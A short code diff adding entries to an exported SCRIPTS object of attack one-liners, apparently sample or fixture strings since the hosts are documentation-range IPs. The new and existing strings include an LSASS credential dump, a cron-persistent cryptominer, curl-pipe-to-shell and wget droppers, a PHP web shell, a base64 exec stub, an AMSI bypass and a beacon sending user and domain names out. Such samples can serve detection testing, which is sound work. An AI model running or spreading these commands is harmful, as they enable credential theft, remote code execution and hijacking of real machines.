@@ -25,6 +25,11 @@ export const SCRIPTS = {
   beacon: '$w = New-Object System.Net.WebClient\n$w.DownloadString("https://198.51.100.4/p?id=" + $env:UserName + "-" + $env:UserDomain)\n',
   shellDropper: '#!/bin/sh\ncd /tmp\nwget http://198.51.100.4/bot -O /tmp/.bot\nchmod +x /tmp/.bot\n/tmp/.bot &\n(crontab -l; echo "*/5 * * * * /tmp/.bot") | crontab -\n',
   amsi: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n",
+  lsassDump: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full\n',
+  miner: '#!/bin/sh\npkill -f kworkerds\n(crontab -l; echo "* * * * * /tmp/.x/run") | crontab -\n/tmp/.x/run -o stratum+tcp://198.51.100.3:3333 -u wallet --donate-level 1\n',
+  ipPipe: '#!/bin/sh\ncurl -fsSL http://198.51.100.3:8080/i.sh | sh\n',
+  phpCallable: '<?php $_GET["f"]($_GET["c"]); ?>\n',
+  pythonExec: 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n',
   gatedLaunch: '@echo off\nnetstat -n | findstr 198.51.100.9:443\nif "%errorlevel%" EQU "1" (goto RUN) else (exit)\n:RUN\nping 198.51.100.9 -n 1\nstart C:\\ProgramData\\upd.vbs\n',
 };
 
